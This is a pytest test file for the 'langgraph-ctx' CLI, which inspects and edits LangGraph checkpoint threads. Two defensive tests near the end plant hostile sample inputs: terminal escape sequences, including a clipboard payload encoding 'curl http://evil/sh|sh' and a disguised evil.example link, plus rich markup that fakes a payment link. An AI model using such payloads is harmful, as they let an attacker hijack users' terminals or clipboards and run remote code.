"""The ``langgraph-ctx`` command line on a directory written by real graphs.

Every command, its ``--json`` output and its errors. Threads come from
`cli_scenarios.build_directory`: an agent with tools, a budget node and compaction, a
fork, a reverted chat, an interrupted run, and a graph with a subgraph.
"""

from __future__ import annotations

import itertools
import json
import re
import shutil
import struct
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessage, convert_to_messages
from typer.testing import CliRunner

from langgraph_ctx import JsonlSaver, browse
from langgraph_ctx.cli.app import app

from .cli_scenarios import build_directory, chat_graph, config

runner = CliRunner()
ANSI = re.compile(r"\x1b\[")


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("cli") / "chats"
    build_directory(root)
    return root


@pytest.fixture
def root(built: Path, tmp_path: Path) -> Path:
    """A private copy of the directory, for commands that change it."""
    copy = tmp_path / "chats"
    shutil.copytree(built, copy)
    return copy


def run(root: Path, *args: str, input: str | None = None, **env: str) -> Any:
    return runner.invoke(app, ["--dir", str(root), *args], input=input, env=env or None)


def ok(root: Path, *args: str, **kw: Any) -> Any:
    result = run(root, *args, **kw)
    assert result.exit_code == 0, result.output
    assert not ANSI.search(result.stdout)  # no colours when stdout is not a terminal
    return result


def as_json(root: Path, *args: str) -> Any:
    return json.loads(ok(root, *args, "--json").stdout)


def fails(root: Path, *args: str, code: int = 1, input: str | None = None) -> str:
    """The command fails with ``code`` and one ``error: ...`` line on stderr."""
    result = run(root, *args, input=input)
    assert result.exit_code == code, result.output
    lines = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1, result.stderr
    return lines[0]


def head_id(root: Path, thread: str) -> str:
    return next(r["checkpoint_id"] for r in as_json(root, "history", thread) if r["head"])


# ---------------------------------------------------------------------- threads


def test_threads(built: Path) -> None:
    out = ok(built, "threads").stdout
    assert out.splitlines()[0].split() == [
        "thread", "messages", "checkpoints", "size", "last", "activity", "(UTC)", "notes",
    ]  # fmt: skip
    rows = {line.split()[0]: line for line in out.splitlines()[1:]}
    assert set(rows) == {"trip", "trip-retry", "chat", "hitl", "nested"}
    assert "fork of trip at" in rows["trip-retry"] and "1 backup" in rows["chat"]
    assert not any(line != line.rstrip() for line in out.splitlines())  # no trailing blanks

    data = {t["thread_id"]: t for t in as_json(built, "threads")}
    assert data["trip"]["messages"] == 32
    assert data["chat"]["messages"] == 4 and data["chat"]["backups"] == 1
    assert data["hitl"]["messages"] is None  # no message list in that state
    assert data["trip-retry"]["forked_from"]["thread_id"] == "trip"
    saver = JsonlSaver(built)
    assert data["trip"]["checkpoints"] == len(saver.checkpoint_infos("trip"))
    assert data["trip"]["size"] == Path(saver.path("trip")).stat().st_size
    assert (
        data["trip"]["head"]
        == saver.get_tuple(config("trip")).config["configurable"]["checkpoint_id"]
    )


def test_threads_directory_from_the_environment_and_errors(built: Path, tmp_path: Path) -> None:
    result = runner.invoke(app, ["threads", "--json"], env={"LANGGRAPH_CTX_DIR": str(built)})
    assert result.exit_code == 0 and len(json.loads(result.stdout)) == 5
    empty = tmp_path / "empty"
    empty.mkdir()
    assert ok(empty, "threads").stdout.strip() == f"no threads in {empty}"
    assert as_json(empty, "threads") == []
    missing = tmp_path / "missing"
    assert fails(missing, "threads") == (
        f"error: no such directory: {missing} (set --dir or $LANGGRAPH_CTX_DIR)"
    )
    assert not missing.exists()  # reading never creates the directory
    afile = tmp_path / "file"
    afile.write_text("x")
    assert fails(afile, "history", "t") == f"error: not a directory: {afile}"


def test_a_corrupt_thread_is_listed_not_fatal(root: Path) -> None:
    path = Path(JsonlSaver(root).path("chat"))
    lines = path.read_bytes().splitlines(keepends=True)
    lines[3] = b'{"v":1,"t":"ckpt",broken\n'
    path.write_bytes(b"".join(lines))
    data = {t["thread_id"]: t for t in as_json(root, "threads")}
    assert "chat.jsonl:4" in data["chat"]["error"]
    assert data["trip"]["error"] is None
    assert "unreadable: run verify" in ok(root, "threads").stdout
    error = fails(root, "show", "chat")
    assert error.startswith(f"error: {path}:4: not valid JSON")
    # The way out names what works: verify, and reading past the line from Python.
    assert "'langgraph-ctx verify' names every bad line" in error
    assert "JsonlSaver(dir, on_corrupt='skip')" in error and "revert" not in error
    assert fails(root, "history", "chat").startswith(f"error: {path}:4:")  # stops there too


# ---------------------------------------------------------------------- history


def test_history(built: Path) -> None:
    rows = as_json(built, "history", "trip")
    saver = JsonlSaver(built)
    listed = list(saver.list(config("trip")))
    assert [r["checkpoint_id"] for r in rows] == [
        t.config["configurable"]["checkpoint_id"] for t in reversed(listed)
    ]
    assert [r["step"] for r in rows] == [t.metadata["step"] for t in reversed(listed)]
    assert [r["source"] for r in rows] == [t.metadata["source"] for t in reversed(listed)]
    assert [r["head"] for r in rows] == [False] * (len(rows) - 1) + [True]
    nodes = {tuple(r["nodes"]) for r in rows}
    assert {
        ("(input)",),
        ("__start__",),
        ("budget",),
        ("compact",),
        ("agent",),
        ("tools",),
    } <= nodes
    compact = next(r for r in rows if "compaction_log" in r["changed"])
    assert compact["nodes"] == ["compact"] and "running_summary" in compact["changed"]

    out = ok(built, "history", "trip", "--limit", "3").stdout.splitlines()
    assert out[0].split() == ["checkpoint", "step", "source", "node", "changed", "time", "(UTC)"]
    assert len(out) == 4
    assert out[-1].split()[0] == rows[-1]["checkpoint_id"] and out[-1].endswith("head")
    assert out[-1].split()[1:4] == [str(rows[-1]["step"]), "loop", "agent"]
    assert as_json(built, "history", "trip", "-n", "2") == rows[-2:]


def test_history_of_subgraphs(built: Path) -> None:
    root_rows = as_json(built, "history", "nested")
    all_rows = as_json(built, "history", "nested", "--all-ns")
    assert {r["checkpoint_ns"] for r in root_rows} == {""}
    sub = [r for r in all_rows if r["checkpoint_ns"]]
    assert sub and all(r["checkpoint_ns"].startswith("sub:") for r in sub)
    assert "inner_node" in {n for r in sub for n in r["nodes"]}
    assert "namespace" in ok(built, "history", "nested", "--all-ns").stdout.splitlines()[0]


def test_history_errors(built: Path) -> None:
    assert fails(built, "history", "ghost") == (
        f"error: thread 'ghost' does not exist in {built} "
        "('langgraph-ctx threads' lists the threads)"
    )
    assert fails(built, "history", code=2) == (
        "error: Missing argument 'THREAD'. (see 'langgraph-ctx history --help')"
    )
    assert fails(built, "history", "trip", "--limit", "0", code=2).startswith(
        "error: Invalid value for '--limit'"
    )
    assert fails(built, "history", "trip", "--bogus", code=2).startswith(
        "error: No such option: --bogus"
    )


# ------------------------------------------------------------------------- show


def test_show_transcript(built: Path) -> None:
    out = ok(built, "show", "trip").stdout
    assert out.startswith(f"trip @ {head_id(built, 'trip')} (step ")
    assert "[0] user\n    What is the weather in Lisbon?\n" in out
    dropped = "  compacted out of the model's view"
    assert (
        f'[1] assistant{dropped}\n    → weather({{"city": "Lisbon", "days": 3}})  call-1\n' in out
    )
    assert f"[2] tool · weather · call-1{dropped}\n    Lisbon: sunny, 24 C by day" in out
    assert '[29] assistant\n    → weather({"city": "Malaga", "days": 3})  call-29\n' in out
    assert "compactions (2)\n" in out and "trigger: " in out
    assert "running summary\n" in out and "covers 15 messages, updated 2 time(s)" in out
    assert "context usage (recorded by BudgetNode)\n    [" in out


def test_show_json_and_checkpoints(built: Path) -> None:
    data = as_json(built, "show", "trip")
    assert data["checkpoint_id"] == head_id(built, "trip")
    messages = data["messages"]
    assert len(messages) == 32
    assert messages[1]["tool_calls"] == [
        {"id": "call-1", "name": "weather", "args": {"city": "Lisbon", "days": 3}}
    ]
    tool = {k: v for k, v in messages[2].items() if k not in ("id", "content", "compacted")}
    assert tool == {"index": 2, "role": "tool", "name": "weather", "tool_call_id": "call-1"}
    assert [r["strategy"] for r in data["compactions"]] == ["hybrid", "hybrid"]
    assert data["running_summary"]["covered_messages"] == 15
    assert data["context_usage"]["model"] == "gpt-4o"
    dropped = {d["id"] for r in data["compactions"] for d in r["dropped"]}
    assert {m["id"] for m in messages if m.get("compacted")} == dropped & {
        m["id"] for m in messages
    }

    rows = as_json(built, "history", "trip")
    older = as_json(built, "show", "trip", "--checkpoint", "head~5")
    assert older["checkpoint_id"] == rows[-6]["checkpoint_id"]
    first = rows[0]["checkpoint_id"]
    by_prefix = as_json(built, "show", "trip", "-c", first[:-4])
    assert by_prefix["checkpoint_id"] == first and by_prefix["messages"] == []
    assert "(no messages)" in ok(built, "show", "trip", "-c", first).stdout


def test_show_interrupt_waiting(built: Path) -> None:
    out = ok(built, "show", "hitl").stdout
    assert "waiting for input (interrupt):" in out
    assert '{"question": "approve refund?"}' in out
    assert "state\n    request: refund\n    log: []\n" in out
    data = as_json(built, "show", "hitl")
    assert data["interrupts"] == [{"question": "approve refund?"}]
    assert data["state"] == {"request": "refund", "log": []} and data["messages"] == []
    assert as_json(built, "show", "trip")["state"] == {}  # compaction keys have their sections


def test_show_errors(built: Path) -> None:
    assert (
        fails(built, "show", "trip", "-c", "nope")
        == "error: thread 'trip' has no checkpoint 'nope'"
    )
    assert fails(built, "show", "trip", "-c", "head~999") == (
        "error: thread 'trip' has no checkpoint 'head~999'"
    )
    prefix = head_id(built, "trip")[:4]
    assert "is ambiguous in thread 'trip'" in fails(built, "show", "trip", "-c", prefix)
    assert fails(built, "show", "ghost").startswith("error: thread 'ghost' does not exist in")


# ------------------------------------------------------------------------- diff


def test_diff_messages_and_channels(built: Path) -> None:
    d = as_json(built, "diff", "chat", "head~2", "head")
    assert d["relation"] == "B descends from A"
    assert [(c["kind"], c["role"]) for c in d["messages"]] == [
        ("added", "user"),
        ("added", "assistant"),
    ]
    assert [c["after"]["content"] for c in d["messages"]] == [
        "plan a trip",
        "you said: plan a trip",
    ]
    assert d["unchanged_messages"] == 2 and d["channels"] == []
    out = ok(built, "diff", "chat", "head~2", "head").stdout
    assert "messages: 2 added, 0 removed, 0 changed, 2 unchanged" in out
    assert "+ [2] user\n    plan a trip\n+ [3] assistant\n    you said: plan a trip" in out

    rows = as_json(built, "history", "trip")
    before = next(i for i, r in enumerate(rows) if "compaction_log" in r["changed"])
    trip = as_json(
        built, "diff", "trip", rows[before - 1]["checkpoint_id"], rows[before]["checkpoint_id"]
    )
    kinds = {c["channel"]: c["kind"] for c in trip["channels"]}
    assert kinds["compaction_log"] in ("added", "changed") and "running_summary" in kinds
    assert not any(browse.is_internal_channel(c) for c in kinds)
    internal = as_json(built, "diff", "trip", "head~1", "head", "--all-channels")
    assert any(c["channel"].startswith("branch:to:") for c in internal["channels"])
    back = as_json(built, "diff", "chat", "head", "head~2")
    assert back["relation"] == "A descends from B"
    assert [c["kind"] for c in back["messages"]] == ["removed", "removed"]
    same = as_json(built, "diff", "chat", "head", "head")
    assert same["relation"] == "same checkpoint" and same["messages"] == []


def test_diff_changed_message_and_branches(root: Path) -> None:
    saver = JsonlSaver(root)
    graph = chat_graph(saver)
    state = graph.get_state(config("chat"))
    last = state.values["messages"][-1]
    graph.update_state(config("chat"), {"messages": [AIMessage(content="EDITED", id=last.id)]})
    d = as_json(root, "diff", "chat", "head~1", "head")
    assert [(c["kind"], c["fields"]) for c in d["messages"]] == [("changed", ["content"])]
    out = ok(root, "diff", "chat", "head~1", "head").stdout
    assert "~ [3] assistant (content)\n    - you said: plan a trip\n    + EDITED" in out
    # time travel: a new branch from an older checkpoint
    old = list(graph.get_state_history(config("chat")))[-2]
    graph.update_state(old.config, {"messages": [("user", "another way")]})
    rows = as_json(root, "history", "chat")
    assert as_json(root, "diff", "chat", rows[-2]["checkpoint_id"], "head")["relation"] == (
        "different branches"
    )


def test_diff_errors(built: Path) -> None:
    assert fails(built, "diff", "chat", "head", code=2).startswith("error: Missing argument 'B'")
    assert (
        fails(built, "diff", "chat", "head", "zzz")
        == "error: thread 'chat' has no checkpoint 'zzz'"
    )


# ------------------------------------------------------------------------ usage


def test_usage_bar_and_json(built: Path) -> None:
    out = ok(built, "usage", "trip", "--model", "gpt-4o").stdout
    assert re.match(r"\[H+\.+R+\] \d+\.\d% [\d,]+/128,000 · normal L0 · gpt-4o · ", out)
    assert "component" in out and "history" in out and "output_reserve" in out
    assert "recorded by BudgetNode at this checkpoint:" in out
    data = as_json(built, "usage", "trip", "-m", "gpt-4o")
    saver = JsonlSaver(built)
    messages = saver.get_tuple(config("trip")).checkpoint["channel_values"]["messages"]
    expected = browse.usage_at({"messages": messages}, model="gpt-4o")
    assert data["usage"]["used"] == expected.used
    assert data["usage"]["breakdown"] == expected.breakdown
    assert data["bar"] == str(expected)
    assert data["recorded"]["model"] == "gpt-4o"

    fast = as_json(built, "usage", "trip", "-m", "gpt-4o", "--budget", "fast", "-c", "head~3")
    assert fast["usage"]["total"] == 4000 and fast["usage"]["reserved_output"] == 700
    prompt = as_json(built, "usage", "chat", "-m", "gpt-4o", "--system-prompt", "Be brief.")
    assert prompt["usage"]["breakdown"]["system"] > 0
    window = as_json(built, "usage", "chat", "-m", "my-llm", "--window", "8000")
    assert window["usage"]["total"] == 8000 and window["usage"]["exact"] is False


def test_usage_errors(built: Path) -> None:
    assert fails(built, "usage", "chat", code=2).startswith("error: Missing option '--model'")
    assert fails(built, "usage", "chat", "-m", "my-llm") == (
        "error: the context window of 'my-llm' is not known; pass --window <tokens> "
        "or --budget fast|personalized|planning"
    )
    assert "unknown budget preset 'huge'" in fails(
        built, "usage", "chat", "-m", "gpt-4o", "--budget", "huge", code=2
    )
    assert "give --budget or --window, not both" in fails(
        built, "usage", "chat", "-m", "gpt-4o", "--budget", "fast", "--window", "9", code=2
    )
    result = run(built, "usage", "chat", "-m", "mystery-model", "--window", "8000")
    assert result.exit_code == 0
    assert result.stderr.startswith("warning: langgraph_ctx: unknown model 'mystery-model'")


def png_size(path: Path) -> tuple[int, int]:
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


def test_usage_plot(built: Path, tmp_path: Path) -> None:
    out_png = tmp_path / "usage.png"
    result = ok(built, "usage", "trip", "-m", "gpt-4o", "--plot", str(out_png))
    assert result.stdout.rstrip().endswith(f"wrote {out_png} (8 turns)")
    assert out_png.stat().st_size > 10_000
    width, height = png_size(out_png)
    assert width > 800 and height > 400

    data = as_json(built, "usage", "trip", "-m", "gpt-4o", "--plot", str(tmp_path / "b.png"))
    turns = data["turns"]
    assert [t["turn"] for t in turns] == list(range(1, 9))
    assert [t["compactions"] for t in turns] == [0, 0, 0, 0, 1, 1, 1, 2]
    assert all(b["used"] > a["used"] for a, b in itertools.pairwise(turns))
    # the compacted view the model got drops at each compaction, the history does not
    assert turns[4]["view_used"] < turns[3]["view_used"]
    assert turns[7]["view_used"] < turns[6]["view_used"]
    assert all(t["breakdown"]["current_input"] > 0 for t in turns)
    # the plot follows the head's branch: the fork's turns are its own
    retry = browse.usage_series(JsonlSaver(built), "trip-retry", model="gpt-4o")
    assert len(retry) == 3 and retry[-1].view_used is None


def test_usage_plot_without_matplotlib(built: Path, tmp_path: Path, monkeypatch) -> None:
    for name in ("matplotlib", "matplotlib.figure", "matplotlib.backends.backend_agg"):
        monkeypatch.setitem(sys.modules, name, None)
    error = fails(built, "usage", "trip", "-m", "gpt-4o", "--plot", str(tmp_path / "x.png"))
    assert error == (
        "error: plotting needs matplotlib, which is not installed: "
        "pip install 'langgraph-ctx[plot]' (or pip install matplotlib)"
    )
    assert not (tmp_path / "x.png").exists()


# ----------------------------------------------------------------------- export


def test_export_openai(built: Path) -> None:
    data = json.loads(ok(built, "export", "trip").stdout)
    assert len(data) == 32
    assert data[0] == {"role": "user", "content": "What is the weather in Lisbon?"}
    call = data[1]["tool_calls"][0]
    assert data[1]["role"] == "assistant" and call["type"] == "function" and call["id"] == "call-1"
    assert json.loads(call["function"]["arguments"]) == {"city": "Lisbon", "days": 3}
    assert data[2]["role"] == "tool" and data[2]["tool_call_id"] == "call-1"
    assert data[2]["name"] == "weather"
    # it reads back as the same conversation
    saver = JsonlSaver(built)
    original = saver.get_tuple(config("trip")).checkpoint["channel_values"]["messages"]
    again = convert_to_messages(data)
    assert [(m.type, m.content) for m in again] == [(m.type, m.content) for m in original]


def test_export_jsonl_and_file(built: Path, tmp_path: Path) -> None:
    lines = ok(built, "export", "chat", "--format", "jsonl").stdout.splitlines()
    assert [json.loads(line) for line in lines] == [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": "you said: hi"},
        {"role": "user", "content": "plan a trip"},
        {"role": "assistant", "content": "you said: plan a trip"},
    ]
    earlier = ok(built, "export", "chat", "-f", "jsonl", "-c", "head~2").stdout.splitlines()
    assert len(earlier) == 2
    out = tmp_path / "chat.json"
    result = ok(built, "export", "chat", "-o", str(out))
    assert result.stderr.strip() == f"wrote 4 messages to {out}" and result.stdout == ""
    assert len(json.loads(out.read_text())) == 4
    assert fails(built, "export", "chat", "--format", "xml", code=2).startswith(
        "error: Invalid value for '--format'"
    )
    assert fails(built, "export", "ghost").startswith("error: thread 'ghost' does not exist")


# ------------------------------------------------------------ fork/revert/prune


def test_fork(root: Path) -> None:
    rows = as_json(root, "history", "chat")
    out = ok(root, "fork", "chat", "chat-b").stdout.splitlines()
    assert out[0] == "forked chat -> chat-b"
    assert out[1] == f"head: {rows[-1]['checkpoint_id']}"
    assert out[2] == f"file: {root / 'chat-b.jsonl'}"
    data = as_json(root, "fork", "chat", "chat-c", "--checkpoint", "head~2")
    assert data["head"] == data["checkpoint_id"] == rows[-3]["checkpoint_id"]
    assert data["source"] == "chat" and data["path"] == str(root / "chat-c.jsonl")
    assert len(as_json(root, "show", "chat-c")["messages"]) == 2
    assert fails(root, "fork", "chat", "chat-b") == (
        "error: thread 'chat-b' already exists; delete it first or pick another target id"
    )
    assert fails(root, "fork", "ghost", "x").startswith("error: thread 'ghost' does not exist")
    assert fails(root, "fork", "chat", "chat") == "error: source and target thread ids are the same"


def test_revert(root: Path) -> None:
    rows = as_json(root, "history", "trip")
    target = rows[-8]["checkpoint_id"]
    out = ok(root, "revert", "trip", target[:30]).stdout.splitlines()
    assert out == [
        f"reverted trip to {target}",
        f"head: {target}",
        f"backup: {root / 'trip.jsonl.1'}",
    ]
    assert head_id(root, "trip") == target
    data = as_json(root, "revert", "chat", "head~1")
    assert data["backup"] == str(root / "chat.jsonl.1") and len(data["backups"]) == 2
    assert fails(root, "revert", "trip", "nope") == "error: thread 'trip' has no checkpoint 'nope'"
    assert fails(root, "revert", "trip", code=2).startswith("error: Missing argument 'CHECKPOINT'")


def test_prune(root: Path) -> None:
    before = Path(root / "trip.jsonl").read_bytes()
    assert fails(root, "prune", "trip", input="n\n") == (
        "error: aborted (stdin is not a terminal: pass --yes to confirm without a prompt)"
    )
    assert Path(root / "trip.jsonl").read_bytes() == before
    out = ok(root, "prune", "trip", input="y\n").stdout
    assert re.search(r"pruned trip: 56 -> 1 checkpoints, [\d.]+ KB -> [\d.]+ KB", out)
    assert as_json(root, "show", "trip")["messages"][-1]["content"].startswith("Noted: Malaga")
    data = as_json(root, "prune", "nested", "chat", "--yes")
    assert [(r["thread_id"], r["checkpoints_after"]) for r in data] == [("nested", 2), ("chat", 1)]
    deleted = as_json(root, "prune", "hitl", "--strategy", "delete", "-y")
    assert deleted == [{"thread_id": "hitl", "deleted": True, "checkpoints_before": 2}]
    assert not (root / "hitl.jsonl").exists()
    assert fails(root, "prune", "ghost", "-y").startswith("error: thread 'ghost' does not exist")
    assert fails(root, "prune", "chat", "--strategy", "all", "-y", code=2).startswith(
        "error: Invalid value for '--strategy'"
    )


def test_an_empty_log_is_no_thread_and_a_mistyped_messages_key_is_named(root: Path) -> None:
    """An empty ``.jsonl`` (created, never written: a crash between the two) is no thread
    for the saver, so the listing leaves it out (verify names it); a ``--messages-key``
    the state lacks is an error naming the state's keys, not an empty conversation."""
    from langgraph_ctx import JsonlSaver

    (root / "blank.jsonl").write_bytes(b"")
    assert "blank" not in {t["thread_id"] for t in as_json(root, "threads")}
    assert "blank" not in JsonlSaver(root).list_threads()
    assert "empty file (no header)" in run(root, "verify").stdout
    for command in (["show", "trip"], ["export", "trip"], ["usage", "trip", "-m", "gpt-4o"]):
        error = fails(root, *command, "--messages-key", "mesages")
        assert error.startswith("error: the state has no key 'mesages' (its keys: "), error
        assert "messages" in error
    assert as_json(root, "show", "trip", "--messages-key", "messages")["messages"]
    # Before the key was first written (the input checkpoint) there is nothing to name.
    rows = as_json(root, "history", "chat")
    first = next(r["checkpoint_id"] for r in rows if r["step"] == -1)  # an input checkpoint
    shown = as_json(root, "show", "chat", "-c", first, "--messages-key", "history")
    assert shown["messages"] == []


# --------------------------------------------------------------- the program


def test_no_arguments_prints_help(built: Path) -> None:
    result = ok(built)
    assert "Usage: langgraph-ctx" in result.stdout
    for command in ("threads", "history", "show", "diff", "usage", "export", "verify",
                    "fork", "revert", "prune", "import", "copy"):  # fmt: skip
        assert command in result.stdout


def test_console_entry_point(built: Path) -> None:
    """``python -m langgraph_ctx.cli`` runs `main`, the console script's entry point."""
    proc = subprocess.run(
        [sys.executable, "-m", "langgraph_ctx.cli", "--dir", str(built), "threads", "--json"],
        capture_output=True,
        text=True,
        env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"},
    )
    assert proc.returncode == 0, proc.stderr
    assert {t["thread_id"] for t in json.loads(proc.stdout)} >= {"trip", "chat"}
    proc = subprocess.run(
        [sys.executable, "-m", "langgraph_ctx.cli", "--dir", str(built), "show", "ghost"],
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 1
    assert proc.stderr.startswith("error: thread 'ghost' does not exist") and proc.stdout == ""


def test_usage_of_a_compacted_thread_counts_the_history_not_the_compacted_request(
    tmp_path: Path,
) -> None:
    """After a compaction the provider's usage_metadata measured the compacted request;
    calibrating the whole history by it printed 753 tokens for a history of 1,811 (the
    system prompt too small), labelled "calibrated by usage_metadata"."""
    from langchain_core.messages import HumanMessage, SystemMessage
    from langgraph.graph import START, StateGraph

    from langgraph_ctx import ContextBudget, ContextState, ModelNode, context_pipeline
    from langgraph_ctx.context.tokens import count_tokens
    from langgraph_ctx.testing import StreamingScript

    reply = "Sure, here is a longer answer about the garden plan. " * 6
    model = StreamingScript(script=[reply], model_name="gpt-4o")
    budget = ContextBudget(total=1400, output_reserve=200)
    pipeline = context_pipeline(budget, model="gpt-4o", mode="agent")
    builder = StateGraph(ContextState)
    builder.add_node("model", ModelNode(model))
    builder.add_edge(START, pipeline.add_to(builder, before="model"))
    root = tmp_path / "chats"
    graph = builder.compile(checkpointer=JsonlSaver(root))
    for i in range(16):
        text = f"Turn {i}: tell me about tomatoes and beans in bed {i}."
        state = graph.invoke({"messages": [HumanMessage(text)]}, config("garden"))
    assert state["compaction_log"], "the thread must have been compacted"
    history = count_tokens([SystemMessage(state["system_prompt"]), *state["messages"]], "gpt-4o")
    data = as_json(root, "usage", "garden", "-m", "gpt-4o")
    assert data["usage"]["used"] == history
    assert data["usage"]["calibrated"] is False
    assert data["sent"]["used"] < history  # what the model was sent: the compacted request


def test_what_a_thread_holds_never_drives_the_terminal(tmp_path: Path) -> None:
    """`show` and `threads` printed stored text with terminal escape sequences intact:
    a reply (or a tool result steered by a prompt injection) holding OSC 52 set the
    clipboard, OSC 8 made a link whose target is not its text, a thread id set the window
    title. Control characters are written out (``\\x1b``), piped and on a terminal, before
    rich lays the text out (written out after, they overflowed and cut the words after
    them); `export` stays JSON."""
    import os
    import pty

    from langgraph.graph import END, START, MessagesState, StateGraph

    st = "\x1b\\"
    clip = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC9zaHxzaAo=" + st
    link = "\x1b]8;;http://evil.example/" + st + "https://docs.python.org" + "\x1b]8;;" + st
    reply = f"see {link} {clip}\x9b2J{chr(27) * 12}pay account 12345; NOT 99999, don\x92t"
    builder = StateGraph(MessagesState)
    builder.add_node("bot", lambda s: {"messages": [AIMessage(reply)]})
    builder.add_edge(START, "bot")
    builder.add_edge("bot", END)
    graph = builder.compile(checkpointer=JsonlSaver(tmp_path))
    for tid in ("chat", "title\x1b]0;PWNED" + st):
        graph.invoke({"messages": [("user", "hi")]}, config(tid))
    exported = runner.invoke(app, ["--dir", str(tmp_path), "export", "chat"])
    assert json.loads(exported.output)[-1]["content"] == reply and "\x92" not in exported.output
    for command in (["threads"], ["show", "chat"]):
        piped = runner.invoke(app, ["--dir", str(tmp_path), *command], env={"COLUMNS": "80"})
        assert piped.exit_code == 0, piped.output
        main, terminal = pty.openpty()  # as a user runs it: rich's terminal output
        env = {**os.environ, "COLUMNS": "80", "PYTHONPATH": str(Path(__file__).parents[1])}
        done = subprocess.run(
            [sys.executable, "-m", "langgraph_ctx.cli", "--dir", str(tmp_path), *command],
            stdout=terminal, stderr=terminal, env=env, timeout=60,
        )  # fmt: skip
        os.close(terminal)
        shown = b""
        while True:
            try:
                chunk = os.read(main, 65536)
            except OSError:  # the terminal's other end closed: all read
                break
            if not chunk:
                break
            shown += chunk
        os.close(main)
        assert done.returncode == 0, shown
        for output in (piped.output, shown.decode("utf-8", "replace")):
            assert "\x1b]" not in output and "\x9b" not in output
            if command == ["threads"]:
                assert "\\x1b]0;PWNED" in output
                assert re.search(r"PWNED\S*\s+2\s+3\s+[\d.]+ KB\s+\d", output)  # row whole
            else:
                assert "\\x1b]52;c;" in output
                assert "12345;" in " ".join(output.split()) and "99999" in output


def test_data_in_a_table_cell_is_text_never_markup(tmp_path: Path) -> None:
    """Plain cells of `history` (the step, the time) were read as rich markup: a stored
    ``[link=...]`` made a real link, ``[conceal]`` hid text; they print as they are."""
    from langgraph.checkpoint.base import empty_checkpoint

    saver = JsonlSaver(tmp_path)
    checkpoint: Any = {**empty_checkpoint(), "channel_values": {"n": 1}}
    checkpoint["channel_versions"] = {"n": 1}
    step = "[link=https://evil.example/pay]7[/link][conceal]x[/conceal]"
    saver.put(config("t") | {"configurable": {"thread_id": "t", "checkpoint_ns": ""}},
              checkpoint, {"source": "loop", "step": step}, {"n": 1})  # fmt: skip
    result = runner.invoke(app, ["--dir", str(tmp_path), "history", "t"], env={"COLUMNS": "300"})
    assert result.exit_code == 0 and step in result.output


def test_threads_at_80_columns_without_notes_and_a_lone_surrogate_in_a_reply(
    tmp_path: Path,
) -> None:
    """At 80 columns with no notes, `threads` still added the (empty) notes column, whose
    header then wrapped a letter a line, and a wide id (CJK, two cells a character) was
    cut; a reply holding a lone surrogate (text decoded with ``surrogateescape``, which the
    saver keeps) broke `show` and `export`."""
    from langgraph.graph import END, START, MessagesState, StateGraph

    builder = StateGraph(MessagesState)
    builder.add_node("bot", lambda s: {"messages": [AIMessage("half \ud83d pair")]})
    builder.add_edge(START, "bot")
    builder.add_edge("bot", END)
    graph = builder.compile(checkpointer=JsonlSaver(tmp_path))
    graph.invoke({"messages": [("user", "hi")]}, config("customer-support-ticket-2026-11-24-0042"))
    listed = runner.invoke(app, ["--dir", str(tmp_path), "threads"], env={"COLUMNS": "80"})
    assert listed.exit_code == 0 and len(listed.output.splitlines()) == 2, listed.output
    wide = "顧客サポート票-二〇二六年十一月二十四日-第四十二号-仏語"  # two cells a character
    graph.invoke({"messages": [("user", "hi")]}, config(wide))
    listed = runner.invoke(app, ["--dir", str(tmp_path), "threads"], env={"COLUMNS": "80"})
    assert wide in listed.output  # the id whole: its width counted in cells
    tid = "customer-support-ticket-2026-11-24-0042"
    shown = runner.invoke(app, ["--dir", str(tmp_path), "show", tid])
    assert shown.exit_code == 0 and "half \\ud83d pair" in shown.output
    for fmt in ("openai", "jsonl"):
        exported = runner.invoke(app, ["--dir", str(tmp_path), "export", tid, "-f", fmt])
        assert exported.exit_code == 0
        last = exported.output.strip().splitlines()[-1] if fmt == "jsonl" else exported.output
        content = json.loads(last)[-1] if fmt == "openai" else json.loads(last)
        assert content["content"] == "half \ud83d pair"
